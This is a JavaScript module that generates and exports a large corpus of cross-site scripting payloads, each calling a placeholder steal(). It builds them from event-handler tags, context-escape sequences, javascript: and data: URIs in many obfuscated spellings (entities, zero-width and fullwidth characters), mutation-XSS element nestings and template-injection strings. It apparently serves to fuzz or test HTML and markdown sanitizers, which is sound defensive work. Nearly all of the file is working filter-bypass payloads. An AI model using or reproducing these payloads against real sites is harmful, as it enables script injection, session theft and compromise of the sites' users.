// Texts that would act if a page took them for more than text, put together from what such texts are made of:
// elements and handlers, ways out of where they stand, addresses in disguise, markup that browsers read
// otherwise the second time. What acts calls `steal()`.

const product = (...lists) => lists.reduce((all, list) => all.flatMap((begun) => list.map((each) => [...begun, each])), [[]]);

const handlers = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onpageshow", "onanimationstart", "onbegin",
  "onpointerenter", "onbeforetoggle", "ONERROR", "oNlOaD"];
const tags = ["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=x", "object data=x",
  "embed src=x", "marquee", "select autofocus", "textarea autofocus", "button popovertarget=x", "a href=#x", "x-custom contenteditable tabindex=1",
  "style", "link rel=stylesheet href=x", "math", "image src=x", "isindex", "frameset", "dialog open", "source src=x", "track src=x"];
const spaces = [" ", "/", "\t", "\n", "\r", " / "];
const calls = ["steal()", "\"steal()\"", "'steal()'", "`steal()`", "steal&lpar;&rpar;", "&#115;teal()"];

function with_handlers() {
  return product(tags, handlers).map(([tag, handler], index) =>
    `<${tag}${spaces[index % spaces.length]}${handler}${["=", " =", "= "][index % 3]}${calls[index % calls.length]}>`);
}

const ways_out = ["\"", "'", "`", "\\\"", "\">", "'>", "-->", "--!>", "]]>", "?>", "%>", "*/", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</xmp>",
  "</template>", "</iframe>", "</noembed>", "</noframes>", "</svg>", "</math>", "</li></ol></section>", "</a></sup>", "</bdi></cite></a>", "</p></div></dd></dl>",
  "</time>", "</data>", "</body></html>", "\n\n", "\n\n    ", "\n\n***\n\n", "]", "](x)", ")", "`` ` ``", "\\", "|", "&quot;>", "&#34;>", "&#x22 >", "&amp;quot;>",
  "{{", "{%", "{: ", "$$", "<", "<!--", "<![CDATA[", "<?", "<!"];
const things = ["<script>steal()</script>", "<img src=x onerror=steal()>", " onmouseover=steal() x=", "<svg onload=steal()>"];

const schemes = ["javascript:steal()", "vbscript:steal()", "data:text/html,<script>steal()</script>", "data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg onload=steal()>", "blob:https://a.example/x", "file:///etc/passwd", "view-source:x", "livescript:steal()", "mhtml:x", "//a.example",
  "feed:javascript:steal()", "about:blank#", "filesystem:https://a.example/x"];
const disguises = [
  (url) => url,
  (url) => url.toUpperCase(),
  (url) => [...url].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join(""),
  (url) => ` ${url}`,
  (url) => `\u0001${url}`.replace("\u0001", "\u2028"),
  (url) => `${url.slice(0, 2)}\t${url.slice(2)}`,
  (url) => `${url.slice(0, 4)}\n${url.slice(4)}`,
  (url) => `${url.slice(0, 3)}&Tab;${url.slice(3)}`,
  (url) => `${url.slice(0, 3)}&NewLine;${url.slice(3)}`,
  (url) => url.replace(":", "&colon;"),
  (url) => url.replace(":", "&#58"),
  (url) => url.replace(/^./, (c) => `&#x${c.codePointAt(0).toString(16)};`),
  (url) => url.replace(/^./, (c) => `&#0000${c.codePointAt(0)};`),
  (url) => url.replace(/^./, (c) => `%${c.codePointAt(0).toString(16)}`),
  (url) => url.replace(":", "%3A"),
  (url) => url.replace(":", "\\:"),
  (url) => `${url.slice(0, 1)}\u200b${url.slice(1)}`,
  (url) => `\ufeff${url}`,
  (url) => url.replace(/[a-z]/g, (c) => String.fromCodePoint(c.codePointAt(0) - 97 + 0xff41)),
  (url) => url.replace("s", "\u017f"),
];
export const addresses = product(schemes, disguises).map(([url, disguise]) => disguise(url));

const links = [(url) => `[x](${url})`, (url) => `[x](<${url}>)`, (url) => `<${url}>`, (url) => `![x](${url})`, (url) => `[x][y]\n\n[y]: <${url}>`,
  (url) => `[x](${url} "t")`, (url) => `<a href="${url}">x</a>`, (url) => `[![x](${url})](${url})`, (url) => url];

// Elements that change what stands in them, inside those that change it back.
const outer = ["math", "svg", "template", "table", "select", "form><form"];
const inner = ["mtext", "mi", "annotation-xml encoding=text/html", "foreignObject", "desc", "title", "table><mglyph", "option", "caption><svg"];
const raw = ["style", "noscript", "xmp", "title", "textarea", "iframe", "noembed", "noframes", "script", "plaintext"];

function mutating() {
  return product(outer, inner, raw).map(([a, b, c], index) =>
    index % 2 ? `<${a}><${b}><${c}><!--</${c}><img title="--><img src=x onerror=steal()>">`
      : `<${a}><${b}><${c}><a id="</${c}><img src=x onerror=steal()>">`);
}

const spellings = [
  (text) => text.replace(/[<>]/g, (c) => `&#${c.codePointAt(0)};`),
  (text) => text.replace(/[<>]/g, (c) => `&#x${c.codePointAt(0).toString(16)}`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (text) => text.replaceAll("<", "\\<"),
  (text) => text.replaceAll("<", "\\\\<"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => text.replaceAll("<", "<<"),
  (text) => text.replaceAll("<", "< "),
  (text) => text.replaceAll("<", "<\u200b"),
  (text) => text.toUpperCase(),
  (text) => text.replaceAll("script", "ſcript"),
  (text) => text.replaceAll("script", "scr<script>ipt"),
  (text) => `    ${text}`,
  (text) => `\`\`\`\n${text}`,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `| ${text} |\n|-|`,
  (text) => `# ${text} {onclick=steal()}`,
  (text) => `[^x]: ${text}\n\n[^x]`,
  (text) => `*${text}*`,
  (text) => `\`${text}`,
  (text) => `~~${text}~~`,
  (text) => `${text}\n===`,
  (text) => `<div>\n\n${text}\n\n</div>`,
];

const templates = ["{{constructor.constructor('steal()')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('steal()')}}", "{% include 'x' %}", "${steal()}", "<%= steal() %>",
  "#{steal()}", "{{{steal()}}}", "[[${steal()}]]", "*{steal()}", "{: onclick=steal() }", "{onclick=steal()}", "{#x onclick=steal()}", "@{steal()}", "{{< raw >}}", "{{% x %}}"];

export const payloads = [...new Set([
  ...with_handlers(),
  ...product(ways_out, things).map(([out, thing]) => out + thing),
  ...addresses.flatMap((url, index) => [links[index % links.length](url), links[(index + 4) % links.length](url)]),
  ...mutating(),
  ...product(spellings, things).map(([spell, thing]) => spell(thing)),
  ...templates,
])];
